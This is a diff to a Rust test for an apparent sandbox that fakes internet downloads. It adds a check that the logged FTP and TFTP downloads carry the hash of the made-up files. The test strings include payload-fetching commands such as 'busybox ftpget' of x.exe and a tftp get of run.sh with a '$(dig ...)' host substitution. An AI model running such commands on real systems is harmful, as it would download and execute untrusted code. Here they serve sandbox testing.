@@ -3,6 +3,7 @@
 use super::client;
 use crate::support::internet::VirtualInternet;
 use crate::support::network::in_own_world;
+use ukai_model::Sha256;
 
 #[test]
 fn mail_goes_nowhere_and_is_kept() {
@@ -76,13 +77,15 @@ fn files_of_any_name_are_there() {
     assert_eq!(begins(&wget, "wget.bin", b"\x7fELF"), elf);
     begins("busybox ftpget -u u -p p ftp.example.org got.bin x.exe", "got.bin", b"MZ");
     let tftp = "tftp -m octet $(dig +short t.example.org A) -c get run.sh";
-    begins(tftp, "run.sh", b"#!");
+    let script = begins(tftp, "run.sh", b"#!");
+    // What was made up is named, so that nobody takes it for the sample's.
     internet.events("file.transfer", |moved| {
-        ["ftp", "tftp"].iter().all(|protocol| {
+        [("ftp", &elf), ("tftp", &script)].iter().all(|(protocol, bytes)| {
             moved.iter().any(|event| {
                 event["protocol"] == *protocol
                     && event["success"] == true
                     && event["operation"] == "download"
+                    && event["served"] == Sha256::of(bytes).to_string()
             })
         })
     });
